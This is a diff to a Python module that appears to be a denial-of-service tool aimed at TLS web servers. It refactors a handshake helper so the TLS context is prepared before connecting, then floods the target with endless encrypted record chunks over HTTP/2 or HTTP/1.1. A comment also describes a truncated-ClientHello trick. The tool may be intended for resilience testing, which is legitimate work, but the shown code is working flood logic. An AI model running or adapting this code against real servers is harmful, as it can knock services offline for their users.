@@ -8,7 +8,8 @@ import socket
 import ssl
 import tempfile
 import time
-from collections.abc import Callable
+from collections.abc import Callable, Iterator
+from contextlib import contextmanager
 from pathlib import Path
 
 from cryptography.hazmat.primitives.ciphers.aead import AESGCM, ChaCha20Poly1305
@@ -63,8 +64,12 @@ class _Records:
         return sent
 
 
-def _handshake(sock: socket.socket, protocol: str) -> _Records:
-    """Makes a TLS 1.3 handshake on a socket that blocks; returns the encoder of the client's records.
+@contextmanager
+def _handshake(protocol: str) -> Iterator[Callable[[socket.socket], _Records]]:
+    """Prepares a TLS 1.3 handshake; yields the function that makes it on a socket that blocks.
+
+    Prepared before the connection is made, because a server gives little time for a handshake. The function returns the
+    encoder of the client's records.
 
     Args:
       protocol: offered by ALPN.
@@ -78,20 +83,24 @@ def _handshake(sock: socket.socket, protocol: str) -> _Records:
         context.keylog_filename = str(log)
         incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
         tls = context.wrap_bio(incoming, outgoing)
-        is_done = False
-        while not is_done:
-            try:
-                tls.do_handshake()
-                is_done = True
-            except ssl.SSLWantReadError:
-                pass
-            sock.sendall(outgoing.read())
-            if not is_done and not incoming.write(sock.recv(1 << 16)):
-                raise ConnectionError("the server closed in the handshake")
-        cipher = tls.cipher()
-        assert cipher is not None
-        (line,) = [line for line in log.read_text().splitlines() if line.startswith("CLIENT_TRAFFIC_SECRET_0 ")]
-        return _Records(cipher[0], bytes.fromhex(line.split()[2]))
+
+        def shake_hands(sock: socket.socket) -> _Records:
+            is_done = False
+            while not is_done:
+                try:
+                    tls.do_handshake()
+                    is_done = True
+                except ssl.SSLWantReadError:
+                    pass
+                sock.sendall(outgoing.read())
+                if not is_done and not incoming.write(sock.recv(1 << 16)):
+                    raise ConnectionError("the server closed in the handshake")
+            cipher = tls.cipher()
+            assert cipher is not None
+            (line,) = [line for line in log.read_text().splitlines() if line.startswith("CLIENT_TRAFFIC_SECRET_0 ")]
+            return _Records(cipher[0], bytes.fromhex(line.split()[2]))
+
+        yield shake_hands
 
 
 # The beginning of a TLS handshake: its ClientHello announces 512 bytes and holds only 50.
@@ -233,14 +242,14 @@ def _flood_records(attacker: Attacker, pieces: Callable[[_Records], list[bytes]]
         opening = frames.PREFACE + frames.settings() + target.open_request(1)
     else:
         opening = target.head() + b"x: "
-    conn = attacker.connect(is_raw=True)
-    if conn is not None:
+    with _handshake("h2" if target.wire == "http2" else "http/1.1") as shake_hands:
+        conn = attacker.connect(is_raw=True)
+        if conn is None:
+            return
         conn.sock.settimeout(max(attacker.end_s - time.monotonic(), 0.001))
         try:
-            records = _handshake(conn.sock, "h2" if target.wire == "http2" else "http/1.1")
+            records = shake_hands(conn.sock)
         finally:
             conn.sock.setblocking(False)
-        chunks = (
-            b"".join(itertools.chain.from_iterable(pieces(records) for _ in range(20))) for _ in itertools.count()
-        )
-        conn.send(itertools.chain([records.record(_DATA, opening)], chunks), attacker.end_s)
+    chunks = (b"".join(itertools.chain.from_iterable(pieces(records) for _ in range(20))) for _ in itertools.count())
+    conn.send(itertools.chain([records.record(_DATA, opening)], chunks), attacker.end_s)
